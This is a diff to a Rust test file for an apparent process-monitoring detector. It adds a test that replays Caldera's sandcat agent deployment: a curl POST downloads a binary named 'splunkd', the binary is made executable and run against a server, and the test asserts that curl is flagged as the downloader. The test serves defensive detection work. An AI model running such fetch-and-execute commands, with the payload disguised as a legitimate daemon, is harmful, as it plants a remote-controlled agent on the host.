@@ -1914,6 +1914,37 @@ fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
         assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
         assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
     }
+    // Caldera's agent deployment as its sh executor runs it (`sh -c`): dash opens the
+    // redirection's file itself and vforks curl onto it, so the kernel names the program on
+    // the file's standard output at its exec as the writer, not the shell. Benign twin: the
+    // same with `cat` of a local binary.
+    for (name, fetch, expected) in [
+        (
+            "dash-curl-post-redirect",
+            format!(
+                "curl -s -X POST -H 'file:sandcat.go' -H 'platform:linux' {url}/true.bin > splunkd"
+            ),
+            1,
+        ),
+        ("dash-cat-redirect", "cat /bin/true > splunkd".to_owned(), 0),
+    ] {
+        let found = detect(run(Command::new("/bin/sh")
+            .args([
+                "-c",
+                &format!(
+                    "rm -f splunkd; {fetch}; chmod +x splunkd; ./splunkd -server {url} -group red -v"
+                ),
+            ])
+            .current_dir(&dir.0)));
+        let f = of(&found, rule_id);
+        assert_eq!(f.len(), expected, "{name}: {:?}", kinds(&found));
+        if expected > 0 {
+            assert_eq!(
+                f[0].context.additional["downloadedBy"], "/usr/bin/curl",
+                "{name}"
+            );
+        }
+    }
     // A `#!` script fetched, made executable and run: its writer is read from the kernel's
     // written-files map at exec.
     // And handed to an interpreter: the agent reads the script operand with the interpreter's
